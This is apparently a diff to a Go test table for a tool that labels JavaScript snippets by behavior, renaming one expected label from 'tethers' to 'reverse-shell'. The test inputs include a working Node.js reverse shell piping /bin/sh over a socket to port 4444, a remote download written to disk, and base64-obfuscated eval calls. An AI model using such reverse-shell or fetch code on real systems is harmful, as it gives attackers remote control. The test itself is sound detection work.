@@ -108,7 +108,7 @@ var javaScriptRows = []struct{ code, want string }{
 	{"require('https').get('https://x.example/a',r=>r.pipe(fs.createWriteStream('a')))", "write:a fetch:https://x.example/a"},
 	{"require('net').connect(4444,'10.0.0.1')", "fetch:10.0.0.1"},
 	{"const s=require('net').connect(4444,'h');const sh=require('child_process').spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)",
-		"fetch:h run:/bin/sh tethers"},
+		"fetch:h run:/bin/sh reverse-shell"},
 	// not seen through
 	{"eval(atob('Y29uc29sZS5sb2coMSk='))", "decoded ?"},
 	{"eval(Buffer.from('aWQ=','base64').toString())", "decoded ?"},
